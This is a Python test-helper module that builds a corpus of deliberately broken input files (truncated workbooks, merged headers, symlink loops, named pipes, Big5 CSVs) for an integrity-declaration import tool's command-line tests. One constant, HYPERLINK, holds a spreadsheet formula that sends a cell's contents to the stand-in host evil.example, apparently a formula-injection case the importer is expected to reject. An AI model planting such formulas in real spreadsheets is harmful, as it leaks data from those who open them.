"""The files of the broken-input corpus (tests/cli/test_corpus.py): each builder writes one file
(or folder) into a case's own folder and returns its path.

Most start from a valid file of the seeds' chain and spoil one thing, so the refusal a case
expects is the one thing it spoiled.
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook

from qinglian.complaints.import_complaints import COMPLAINT_COLUMNS
from qinglian.declarations.columns import section_for_sheet
from qinglian.exchange.table import ColumnSpec
from qinglian.inspection.result_rows import INSPECTION_COLUMNS
from qinglian.rectification.import_ledger import RECTIFICATION_COLUMNS
from qinglian.rectification.import_regulations import RULES_REVIEW_COLUMNS
from qinglian.reporting.import_narratives import NARRATIVE_COLUMNS
from tests.factories import (
    CADRES,
    FB,
    LYG,
    UNIT_HEADERS,
    UNITS,
    write_cadres,
    write_csv_rows,
    write_deliveries,
    write_table,
    write_units,
    write_xlsx_rows,
)

Builder = Callable[[Path], Path]
Sheets = Mapping[str, Sequence[Mapping[str, Any]]]


def _headers(columns: Sequence[ColumnSpec]) -> tuple[str, ...]:
    return tuple(spec.header for spec in columns)


COMPLAINT_HEADERS = _headers(COMPLAINT_COLUMNS)
RECTIFICATION_HEADERS = _headers(RECTIFICATION_COLUMNS)
RULES_HEADERS = _headers(RULES_REVIEW_COLUMNS)
NARRATIVE_HEADERS = _headers(NARRATIVE_COLUMNS)
INSPECTION_HEADERS = _headers(INSPECTION_COLUMNS)

# One valid row of each kind, for the seed and for the cases that spoil one cell of it.
COMPLAINTS: tuple[dict[str, Any], ...] = (
    {
        "编号": "XF-001",
        "渠道": "举报电话",
        "收到日期": "2012-08-20",
        "是否匿名": "否",
        "被反映人": "施庆喜",
        "被反映单位": "连云港市妇幼保健院",
        "内容": "反映施庆喜配偶经营医药公司，向本院供货",
        "反映人联系方式": "13800000000",
    },
    {
        "编号": "XF-002",
        "渠道": "来信",
        "收到日期": "2012-08-21",
        "是否匿名": "是",
        "被反映人": "顾扬",
        "被反映单位": "连妇保",
        "问题类别": "违规兼职",
        "内容": "反映顾扬在医药企业兼职取酬",
    },
)
RULES: tuple[dict[str, Any], ...] = (
    {"单位编码": FB, "制度名称": "药品采购管理办法", "处理意见": "修订", "完成时限": "2012-11-30"},
    {"单位编码": FB, "制度名称": "院务公开制度", "处理意见": "保留"},
)
FORMS: dict[str, list[dict[str, Any]]] = {
    "基本情况": [
        {"工号": "FB001", "姓名": "施庆喜", "填报日期": "2012-08-05", "签名日期": "2012-08-05"},
        {"工号": "FB002", "姓名": "邵亚玲", "无报告事项": "是", "填报日期": "2012-08-06"},
    ],
    "亲属从业": [
        {
            "工号": "FB001",
            "亲属姓名": "张三",
            "关系": "配偶",
            "工作单位": "连云港康泰医药有限公司",
            "职务": "销售经理",
            "经营类型": "药品销售",
            "是否在管辖地区和业务范围内": "是",
        }
    ],
}
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"  # a compound file: an old .xls, or an encrypted .xlsx
HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&A1,"点击")'
HOSPITAL = {"单位编码": "JS-LYG-NEW", "单位名称": "连云港市新医院", "层级": "单位", "类型": "医疗"}


# --- writers -------------------------------------------------------------------------------


def write_forms(path: Path, sheets: Sheets) -> Path:
    """A form workbook (.xlsx) or a folder of one CSV per sheet, under each section's headers."""
    tables = {}
    for name, records in sheets.items():
        section = section_for_sheet(name)
        assert section is not None, name
        headers = [spec.header for spec in section.columns]
        tables[name] = [headers, *([record.get(h) for h in headers] for record in records)]
    if path.suffix != ".xlsx":
        path.mkdir()
        for name, table in tables.items():
            write_csv_rows(path / f"{name}.csv", table)
        return path
    workbook = Workbook()
    assert workbook.active is not None
    workbook.remove(workbook.active)
    for name, table in tables.items():
        sheet = workbook.create_sheet(name)
        for row in table:
            sheet.append(row)
    workbook.save(path)
    return path


def zip_bytes(members: Mapping[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def unit_table() -> list[list[Any]]:
    """The seed units as rows of cells, headers first."""
    return [list(UNIT_HEADERS), *([row.get(h) for h in UNIT_HEADERS] for row in UNITS)]


# --- builders ------------------------------------------------------------------------------


def raw(name: str, data: bytes) -> Builder:
    """A file holding exactly ``data``."""

    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    return build


def units(*rows: Mapping[str, Any], name: str = "units.csv", seed: bool = True) -> Builder:
    """The seed units (unless ``seed`` is false) and ``rows``."""
    return lambda folder: write_units(folder / name, [*(UNITS if seed else ()), *rows])


def units_reparented(code: str, parent: str) -> Builder:
    """The seed units with ``code`` moved below ``parent``."""
    rows = [{**row, "上级单位编码": parent} if row["单位编码"] == code else row for row in UNITS]
    return units(*rows, seed=False)


def deep_chain(depth: int) -> Builder:
    """``depth`` units each below the one before, under 连云港 (deeper than any tree may be)."""
    rows = [
        {
            **HOSPITAL,
            "单位编码": f"D{level}",
            "单位名称": f"第{level}层",
            "上级单位编码": f"D{level - 1}" if level else LYG,
        }
        for level in range(depth)
    ]
    return units(*rows)


def unit_rows(rows: Sequence[Sequence[Any]], *, name: str = "units.xlsx") -> Builder:
    """Cells as they stand on a workbook's one sheet."""
    return lambda folder: write_xlsx_rows(folder / name, rows, title="units")


def cadres(*rows: Mapping[str, Any], name: str = "cadres.csv") -> Builder:
    return lambda folder: write_cadres(folder / name, [*CADRES, *rows])


def deliveries(*rows: Mapping[str, Any], name: str = "deliveries.xlsx") -> Builder:
    return lambda folder: write_deliveries(folder / name, rows)


def complaints(*rows: Mapping[str, Any], name: str = "complaints.xlsx") -> Builder:
    return lambda folder: write_table(folder / name, COMPLAINT_HEADERS, rows)


def complaint(**cells: Any) -> dict[str, Any]:
    """A new complaint (not one of the seed's) with ``cells`` changed."""
    return {**COMPLAINTS[0], "编号": "XF-900", **cells}


def rectification(*rows: Mapping[str, Any], name: str = "rectification.xlsx") -> Builder:
    return lambda folder: write_table(folder / name, RECTIFICATION_HEADERS, rows)


def rules(*rows: Mapping[str, Any], name: str = "rules.xlsx") -> Builder:
    return lambda folder: write_table(folder / name, RULES_HEADERS, rows)


def narratives(*rows: Mapping[str, Any], name: str = "narratives.xlsx") -> Builder:
    return lambda folder: write_table(folder / name, NARRATIVE_HEADERS, rows)


def narrative(**cells: Any) -> dict[str, Any]:
    return {"单位编码": FB, "阶段": "find", "总结内容": "查找问题阶段总结", **cells}


def inspections(*rows: Mapping[str, Any], name: str = "inspection.xlsx") -> Builder:
    return lambda folder: write_table(folder / name, INSPECTION_HEADERS, rows)


def inspection(**cells: Any) -> dict[str, Any]:
    return {
        "单位编码": LYG,
        "检查日期": "2012-10-08",
        "检查人": "检查组",
        "得分": 90,
        "问题类别": "隐瞒不报",
        "问题描述": "未报告配偶经商",
        **cells,
    }


def forms(sheets: Sheets, *, name: str = "forms.xlsx") -> Builder:
    return lambda folder: write_forms(folder / name, sheets)


def form(**cells: Any) -> dict[str, list[dict[str, Any]]]:
    """A form of 顾扬 (FB003), who has not filed one yet: nothing to declare, ``cells`` changed."""
    basics = {"工号": "FB003", "姓名": "顾扬", "无报告事项": "是", "填报日期": "2012-08-07"}
    return {"基本情况": [{**basics, **cells}]}


def amended_form() -> dict[str, list[dict[str, Any]]]:
    """The seed's form of 施庆喜 again, now declaring nothing: an amendment."""
    return {"基本情况": [{**FORMS["基本情况"][0], "无报告事项": "是", "填报日期": "2012-08-11"}]}


def form_twice() -> dict[str, list[dict[str, Any]]]:
    """顾扬's form twice in one file, under two names."""
    basics = form()["基本情况"][0]
    return {"基本情况": [basics, {**basics, "姓名": "别人"}]}


def form_with_relative(relation: str) -> dict[str, list[dict[str, Any]]]:
    """顾扬's form declaring one relative, related as ``relation``."""
    relative = {"工号": "FB003", "亲属姓名": "李四", "关系": relation}
    return {**form(无报告事项="否"), "亲属从业": [relative]}


def big5_units() -> Builder:
    """A new hospital under 连云港 in a Big5 CSV (English headers, so the header is found)."""
    text = (
        "unit code,unit name,level,type,parent\r\n"
        "JS-LYG-B5,連雲港市第一人民醫院,institution,public_medical,JS-LYG\r\n"
    )
    return text_file("units.csv", text, encoding="big5")


def folder(name: str) -> Builder:
    """An empty folder."""

    def build(parent: Path) -> Path:
        path = parent / name
        path.mkdir()
        return path

    return build


def forms_folder_with_a_folder() -> Builder:
    """A folder of form CSVs whose 基本情况.csv is itself a folder."""

    def build(parent: Path) -> Path:
        path = parent / "forms"
        (path / "基本情况.csv").mkdir(parents=True)
        return path

    return build


def with_folder_beside(build: Builder, name: str) -> Builder:
    """``build``'s file, and a folder named ``name`` beside it (where a file is written)."""

    def both(parent: Path) -> Path:
        (parent / name).mkdir()
        return build(parent)

    return both


def symlink_loop(name: str) -> Builder:
    """Two symbolic links, each pointing at the other."""

    def build(parent: Path) -> Path:
        first, second = parent / name, parent / f"{name}.other"
        first.symlink_to(second)
        second.symlink_to(first)
        return first

    return build


def text_file(name: str, text: str, encoding: str = "utf-8") -> Builder:
    return raw(name, text.encode(encoding))


# --- files that are not what they seem ----------------------------------------------------


def merged_header() -> Builder:
    """单位编码 merged over the first two header cells: 单位名称 is hidden under it."""

    def build(parent: Path) -> Path:
        path = write_xlsx_rows(parent / "units.xlsx", unit_table(), title="units")
        workbook = load_workbook(path)
        sheet = workbook.active
        assert sheet is not None
        sheet.merge_cells("A1:B1")
        workbook.save(path)
        return path

    return build


def truncated_xlsx() -> Builder:
    """The first half of a valid workbook, as a download cut short leaves it."""

    def build(parent: Path) -> Path:
        path = write_xlsx_rows(parent / "units.xlsx", unit_table(), title="units")
        data = path.read_bytes()
        path.write_bytes(data[: len(data) // 2])
        return path

    return build


def fifo(name: str) -> Builder:
    """A named pipe nobody writes to: reading it would wait for ever."""

    def build(parent: Path) -> Path:
        path = parent / name
        os.mkfifo(path)
        return path

    return build
